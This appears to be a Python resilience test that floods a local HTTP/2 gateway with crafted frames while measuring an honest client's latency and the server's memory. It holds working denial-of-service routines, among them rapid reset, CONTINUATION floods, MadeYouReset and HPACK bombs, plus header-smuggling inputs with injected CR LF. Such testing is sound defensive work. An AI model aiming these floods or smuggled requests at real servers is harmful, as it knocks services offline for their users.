"""Attacks a gateway with HTTP/2 frames made by an independent library, while an honest client measures what it feels.

Prints one line for each attack; ends with 1 when something held that must not hold:
  - the server lives and answers the honest client without an error;
  - what is not allowed is not served: each attack says how its connections have to end;
  - a hostile connection holds no more than 1 MiB of the server's memory;
  - the honest client's 99th percentile stays below twice the quiet one (or a floor, for machines that do other things too).
"""

import argparse
import json
import multiprocessing
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
from hpack import Encoder
from hyperframe import frame as f

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SECONDS = 3.0
# Processes that attack at a time: with more of them, the honest client would feel the machine instead of the gateway.
ATTACKERS = 2
HELD = 40
MEBIBYTE = 1024.0
# What an allocator keeps of what was given back, KiB.
SLACK = 8 * MEBIBYTE


def context(ca, alpn):
    tls = ssl.create_default_context(cafile=ca)
    tls.set_alpn_protocols([alpn])
    return tls


class Hostile:
    """A connection on which any bytes can be sent."""

    def __init__(self, options, settings=None, window=None):
        raw = socket.create_connection(("localhost", options.port), timeout=5)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.tls = context(options.ca, "h2").wrap_socket(raw, server_hostname="localhost")
        assert self.tls.selected_alpn_protocol() == "h2"
        self.options = options
        self.encoder = Encoder()
        self.seen = b""
        self.closed = False
        self.send(PREFACE + f.SettingsFrame(0, settings=settings or {}).serialize())
        self.tls.settimeout(0.02)

    def send(self, data):
        if self.closed:
            return False
        try:
            self.tls.settimeout(5)
            self.tls.sendall(data)
            return True
        except (OSError, ssl.SSLError):
            self.closed = True
            return False

    def read(self, seconds=0.0):
        """What the server says within the time."""
        end = time.monotonic() + seconds
        while not self.closed:
            try:
                self.tls.settimeout(max(0.005, min(0.2, end - time.monotonic())))
                piece = self.tls.recv(65536)
                if not piece:
                    self.closed = True
                self.seen += piece
            except (TimeoutError, ssl.SSLWantReadError):
                pass
            except (OSError, ssl.SSLError):
                self.closed = True
            if time.monotonic() >= end:
                break
        return self.frames()

    def frames(self):
        found, at = [], 0
        while at + 9 <= len(self.seen):
            length = int.from_bytes(self.seen[at:at + 3], "big")
            kind, flags = self.seen[at + 3], self.seen[at + 4]
            stream = int.from_bytes(self.seen[at + 5:at + 9], "big") & 0x7FFFFFFF
            if at + 9 + length > len(self.seen):
                break
            found.append((kind, flags, stream, self.seen[at + 9:at + 9 + length]))
            at += 9 + length
        return found

    def ended(self, seconds=3.0):
        """Whether the server ended the connection, by GOAWAY or by closing it."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            if any(kind == 7 for kind, *_ in self.read(0.1)) or self.closed:
                return True
        return False

    def head(self, method="GET", extra=()):
        fields = [(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", self.options.path)]
        return self.encoder.encode(fields + list(extra))

    def headers(self, stream, block, flags=("END_HEADERS", "END_STREAM")):
        return f.HeadersFrame(stream, data=block, flags=list(flags)).serialize()


def flood(connection, batch, seconds=SECONDS):
    """Sends batches until the time is over or the server has enough; returns the frames sent."""
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        data, count = batch()
        if not connection.send(data):
            break
        sent += count
        connection.read(0)
        if any(kind == 7 for kind, *_ in connection.frames()):
            break
    return sent


def rapid_reset(connection):
    state = {"stream": 1}

    def batch():
        out = b""
        for _ in range(100):
            block = connection.head()
            out += connection.headers(state["stream"], block)
            out += f.RstStreamFrame(state["stream"], error_code=8).serialize()
            state["stream"] += 2
        return out, 200

    return flood(connection, batch), connection.ended()


def continuation_flood(connection):
    connection.send(connection.headers(1, connection.head(), flags=()))
    piece = f.ContinuationFrame(1, data=Encoder().encode([("x-a", "b" * 8000)])).serialize()
    return flood(connection, lambda: (piece * 16, 16)), connection.ended()


def empty_continuations(connection):
    connection.send(connection.headers(1, connection.head(), flags=()))
    piece = f.ContinuationFrame(1, data=b"").serialize()
    return flood(connection, lambda: (piece * 200, 200)), connection.ended()


def made_you_reset(connection):
    """The server is made to reset its own streams: a window that overflows (CVE-2025-8671)."""
    state = {"stream": 1}

    def batch():
        out = b""
        for _ in range(50):
            out += connection.headers(state["stream"], connection.head("POST"), flags=["END_HEADERS"])
            out += f.WindowUpdateFrame(state["stream"], window_increment=0x7FFFFFFF).serialize()
            state["stream"] += 2
        return out, 100

    return flood(connection, batch), connection.ended()


def made_you_reset_by_zero(connection):
    state = {"stream": 1}

    def batch():
        out = b""
        for _ in range(50):
            out += connection.headers(state["stream"], connection.head("POST"), flags=["END_HEADERS"])
            out += struct.pack(">I", 4)[1:] + bytes([8, 0]) + struct.pack(">II", state["stream"], 0)
            state["stream"] += 2
        return out, 100

    return flood(connection, batch), connection.ended()


def header_bomb(connection):
    """A large value once, then its index again and again."""
    block = connection.head(extra=[("x-bomb", "b" * 3500)])
    index = bytes([0x80 | 62])
    state = {"stream": 1}

    def batch():
        data = block if state["stream"] == 1 else connection.head()
        out = connection.headers(state["stream"], data + index * 12000)
        state["stream"] += 2
        return out, 1

    sent = flood(connection, batch)
    served = [1 for kind, _, _, data in connection.read(0.5) if kind == 1 and data[:1] == b"\x88"]
    return sent, not served


def cookie_bomb(connection):
    """As many tiny cookies as fit; each costs one byte to send."""
    block = connection.head(extra=[("cookie", "a")])
    index = bytes([0x80 | 62])
    state = {"stream": 1}

    def batch():
        data = block if state["stream"] == 1 else connection.head()
        out = connection.headers(state["stream"], data + index * 15000)
        state["stream"] += 2
        return out, 1

    sent = flood(connection, batch)
    served = [1 for kind, _, _, data in connection.read(0.5) if kind == 1 and data[:1] == b"\x88"]
    return sent, not served


def empty_data(connection):
    connection.send(connection.headers(1, connection.head("POST"), flags=["END_HEADERS"]))
    piece = f.DataFrame(1, data=b"").serialize()
    return flood(connection, lambda: (piece * 500, 500)), connection.ended()


def padded_data(connection):
    connection.send(connection.headers(1, connection.head("POST"), flags=["END_HEADERS"]))
    piece = f.DataFrame(1, data=b"", pad_length=255, flags=["PADDED"]).serialize()
    sent = flood(connection, lambda: (piece * 100, 100))
    return sent, connection.ended()


def pings(connection):
    piece = f.PingFrame(0, opaque_data=b"12345678").serialize()
    return flood(connection, lambda: (piece * 500, 500)), connection.ended()


def settings_flood(connection):
    piece = f.SettingsFrame(0, settings={3: 100}).serialize()
    return flood(connection, lambda: (piece * 500, 500)), connection.ended()


def priorities(connection):
    piece = f.PriorityFrame(1, depends_on=3, stream_weight=1).serialize()
    return flood(connection, lambda: (piece * 500, 500)), connection.ended()


def unknown_frames(connection):
    piece = b"\x00\x00\x00\xfa\x00\x00\x00\x00\x00"
    return flood(connection, lambda: (piece * 500, 500)), connection.ended()


def window_updates(connection):
    piece = f.WindowUpdateFrame(0, window_increment=1).serialize()
    return flood(connection, lambda: (piece * 5000, 5000)), connection.ended()


def too_many_streams(connection):
    """More streams than allowed, all left open."""
    stream = 1
    for _ in range(10):
        out = b""
        for _ in range(100):
            out += connection.headers(stream, connection.head("POST"), flags=["END_HEADERS"])
            stream += 2
        if not connection.send(out):
            break
    frames = connection.read(1.0)
    refused = sum(1 for kind, *_ in frames if kind == 3)
    answered = sum(1 for kind, *_ in frames if kind == 1)
    return stream // 2, connection.closed or any(kind == 7 for kind, *_ in frames) or refused + answered > 0


def wrong_frames(options):
    """What has to end a connection at once (RFC 9113)."""
    cases = {
        "DATA on stream 0": f.DataFrame(1, data=b"x").serialize()[:5] + b"\0\0\0\0" + b"x",
        "HEADERS on an even stream": None,
        "SETTINGS of five bytes": b"\x00\x00\x05\x04\x00\x00\x00\x00\x00hello",
        "PING of seven bytes": b"\x00\x00\x07\x06\x00\x00\x00\x00\x00seven77",
        "PING on a stream": b"\x00\x00\x08\x06\x00\x00\x00\x00\x0112345678",
        "WINDOW_UPDATE of zero": b"\x00\x00\x04\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00",
        "a frame that is too long": b"\x01\x00\x00\x00\x00\x00\x00\x00\x01" + b"x" * 65536,
        "PUSH_PROMISE of a client": b"\x00\x00\x04\x05\x04\x00\x00\x00\x01\x00\x00\x00\x02",
        "RST_STREAM of an idle stream": f.RstStreamFrame(9, error_code=8).serialize(),
        "CONTINUATION of nothing": f.ContinuationFrame(1, data=b"").serialize(),
        "an index that is not there": b"\x00\x00\x01\x01\x05\x00\x00\x00\x01\xff",
        "connection window overflow": f.WindowUpdateFrame(0, window_increment=0x7FFFFFFF).serialize() * 2,
    }
    wrong = []
    for name, data in cases.items():
        connection = Hostile(options)
        if data is None:
            data = connection.headers(2, connection.head())
        connection.send(data)
        if not connection.ended():
            wrong.append(name)
    return len(cases), wrong


def malformed_requests(options):
    """Requests that HTTP/2 can carry and HTTP must not mean (section 8): none of them is served."""
    good = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", options.path)]
    cases = {
        "no method": good[1:],
        "no path": good[:3],
        "two paths": good + [(":path", "/other")],
        "an empty path": good[:3] + [(":path", "")],
        "a path with a blank": good[:3] + [(":path", options.path + " HTTP/1.1\r\nX: y")],
        "an unknown pseudo-field": good + [(":evil", "1")],
        "a pseudo-field behind a field": good[:3] + [("x-a", "b"), (":path", options.path)],
        "an upper-case name": good + [("X-Upper", "1")],
        "connection": good + [("connection", "close")],
        "transfer-encoding": good + [("transfer-encoding", "chunked")],
        "upgrade": good + [("upgrade", "websocket")],
        "te: gzip": good + [("te", "gzip")],
        "CR LF in a value": good + [("x-a", "b\r\nx-evil: 1")],
        "NUL in a value": good + [("x-a", "b\0c")],
        "LF in a name": good + [("x-a\nx-evil", "1")],
        "a blank in a name": good + [("x a", "1")],
        "host disagrees": good + [("host", "evil")],
        "content-length of another length": good + [("content-length", "5")],
        "two lengths": good + [("content-length", "0"), ("content-length", "1")],
        "method with a blank": [(":method", "GET /evil")] + good[1:],
        "authority with user info": good[:2] + [(":authority", "user@localhost"), (":path", options.path)],
        "a dot segment": good[:3] + [(":path", options.path + "/../x")],
        "an encoded slash": good[:3] + [(":path", options.path.replace("/", "%2f"))],
        "TRACE": [(":method", "TRACE")] + good[1:],
        "CONNECT with a path": [(":method", "CONNECT")] + good[1:],
    }
    wrong = []
    for name, fields in cases.items():
        connection = Hostile(options)
        encoder = Encoder()
        block = encoder.encode(fields + [("authorization", "Bearer " + options.token)])
        connection.send(connection.headers(1, block))
        frames = connection.read(0.6)
        statuses = [data for kind, _, stream, data in frames if kind == 1 and stream == 1]
        if any(data[:1] == b"\x88" for data in statuses):
            wrong.append(name)
    return len(cases), wrong


def hold_windows(options):
    """Requests whose answers nobody reads: the window stays shut."""
    connection = Hostile(options, settings={4: 0})
    out, stream = b"", 1
    for _ in range(100):
        out += connection.headers(stream, connection.head(extra=[("authorization", "Bearer " + options.token)]))
        stream += 2
    connection.send(out)
    return connection


def hold_half_headers(options):
    connection = Hostile(options)
    connection.send(connection.headers(1, connection.head(), flags=()))
    connection.send(f.ContinuationFrame(1, data=Encoder().encode([("x-a", "b" * 16000)])).serialize())
    return connection


def hold_bodies(options):
    """Bodies that begin and never end, on every stream."""
    connection = Hostile(options)
    out, stream = b"", 1
    for _ in range(100):
        out += connection.headers(stream, connection.head("POST"), flags=["END_HEADERS"])
        out += f.DataFrame(stream, data=b"x" * 4000).serialize()
        stream += 2
    connection.send(out)
    return connection


def hold_nothing(options):
    return Hostile(options)


def resident(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def honest(options, stop, results):
    """Calls at a fixed rate over HTTP/1.1 and says how long each took."""
    times, errors = [], 0

    def connect():
        raw = socket.create_connection(("localhost", options.port), timeout=10)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return context(options.ca, "http/1.1").wrap_socket(raw, server_hostname="localhost")

    request = (
        f"GET {options.path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {options.token}\r\n\r\n"
    ).encode()
    tls = connect()
    due = time.monotonic()
    while not stop.is_set():
        due += 0.01
        begun = time.monotonic()
        try:
            tls.sendall(request)
            answer = b""
            # The upstream answers with five bytes.
            while b"\r\n\r\n" not in answer or len(answer.split(b"\r\n\r\n", 1)[1]) < 5:
                piece = tls.recv(65536)
                if not piece:
                    raise OSError("closed")
                answer += piece
            if not answer.startswith(b"HTTP/1.1 200"):
                errors += 1
        except OSError:
            errors += 1
            tls = connect()
        times.append(time.monotonic() - begun)
        wait = due - time.monotonic()
        if wait > 0:
            time.sleep(wait)
        else:
            due = time.monotonic()
    results.put((times, errors))


class Honest:
    def __init__(self, options):
        self.stop, self.results = multiprocessing.Event(), multiprocessing.Queue()
        self.process = multiprocessing.Process(target=honest, args=(options, self.stop, self.results))
        self.process.start()

    def end(self):
        self.stop.set()
        times, errors = self.results.get(timeout=30)
        self.process.join()
        times.sort()
        return times[int(len(times) * 0.99)] * 1000 if times else 0.0, len(times), errors


def attack(options, name, results):
    """One attacking process: it comes again when it was thrown out, until the time is over."""
    connections, sent, fine, problem, end = 0, 0, True, "", time.monotonic() + SECONDS
    while time.monotonic() < end:
        try:
            more, contained = globals()[name](Hostile(options))
            connections, sent, fine = connections + 1, sent + more, fine and contained
        except Exception as fault:  # a judge that breaks is not a pass
            fine, problem = False, repr(fault)
            break
    results.put((connections, sent, fine, problem))


def sanity(options):
    """An honest HTTP/2 client of the library itself is served."""
    raw = socket.create_connection(("localhost", options.port), timeout=10)
    tls = context(options.ca, "h2").wrap_socket(raw, server_hostname="localhost")
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    fields = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", options.path),
              ("authorization", "Bearer " + options.token)]
    for stream in range(1, 40, 2):
        connection.send_headers(stream, fields, end_stream=True)
    tls.sendall(connection.data_to_send())
    ended, statuses = 0, []
    while ended < 20:
        data = tls.recv(65536)
        assert data, "the connection ended"
        for event in connection.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                statuses.append(dict(event.headers)[b":status"])
            elif isinstance(event, h2.events.StreamEnded):
                ended += 1
            elif isinstance(event, h2.events.DataReceived):
                connection.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        tls.sendall(connection.data_to_send())
    assert statuses == [b"200"] * 20, statuses


ATTACKS = [
    "rapid_reset", "continuation_flood", "empty_continuations", "made_you_reset", "made_you_reset_by_zero", "header_bomb",
    "cookie_bomb", "empty_data", "padded_data", "pings", "settings_flood", "priorities", "unknown_frames", "window_updates",
    "too_many_streams",
]
HOLDS = ["hold_nothing", "hold_windows", "hold_half_headers", "hold_bodies"]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("settings", type=argparse.FileType())
    parser.add_argument("--only")
    arguments = parser.parse_args()
    options = argparse.Namespace(**json.load(arguments.settings))
    faults = []

    sanity(options)
    quiet = Honest(options)
    time.sleep(SECONDS)
    baseline, calls, errors = quiet.end()
    print(f"quiet: {calls} calls, {errors} errors, p99 {baseline:.1f} ms")
    if errors:
        faults.append(f"the honest client had {errors} errors before any attack")
    bound = max(2 * baseline, options.floor_ms)

    for what in (wrong_frames, malformed_requests):
        count, wrong = what(options)
        print(f"{what.__name__}: {count} cases, {len(wrong)} accepted wrongly {wrong or ''}")
        faults += [f"{what.__name__}: {name}" for name in wrong]

    for name in ATTACKS:
        if arguments.only and arguments.only != name:
            continue
        before = resident(options.pid)
        client, results = Honest(options), multiprocessing.Queue()
        attackers = [multiprocessing.Process(target=attack, args=(options, name, results)) for _ in range(ATTACKERS)]
        for process in attackers:
            process.start()
        outcomes = [results.get(timeout=120) for _ in attackers]
        for process in attackers:
            process.join()
        p99, calls, errors = client.end()
        grown = max(0, resident(options.pid) - before)
        connections, sent = sum(outcome[0] for outcome in outcomes), sum(outcome[1] for outcome in outcomes)
        fine = all(outcome[2] for outcome in outcomes)
        problems = {outcome[3] for outcome in outcomes if outcome[3]}
        print(f"{name}: {connections} connections, {sent} frames, contained {fine}, {grown} KiB more, "
              f"honest: {calls} calls, p99 {p99:.1f} ms, {errors} errors {problems or ''}", flush=True)
        if not fine:
            faults.append(f"{name} is not contained {problems or ''}")
        if errors:
            faults.append(f"{name}: the honest client had {errors} errors")
        if p99 > bound:
            faults.append(f"{name}: p99 of the honest client {p99:.1f} ms is more than {bound:.1f} ms")
        if grown > ATTACKERS * MEBIBYTE + SLACK:
            faults.append(f"{name}: {grown} KiB more")

    for name in HOLDS:
        if arguments.only and arguments.only != name:
            continue
        before = resident(options.pid)
        held = [globals()[name](options) for _ in range(HELD)]
        time.sleep(1.0)
        each = (resident(options.pid) - before) / HELD
        print(f"{name}: {HELD} connections, {each:.0f} KiB for each")
        if each > MEBIBYTE:
            faults.append(f"{name}: {each:.0f} KiB for each connection")
        for connection in held:
            connection.tls.close()
        time.sleep(0.2)

    sanity(options)
    for fault in faults:
        print("FAULT:", fault)
    sys.exit(1 if faults else 0)


if __name__ == "__main__":
    main()
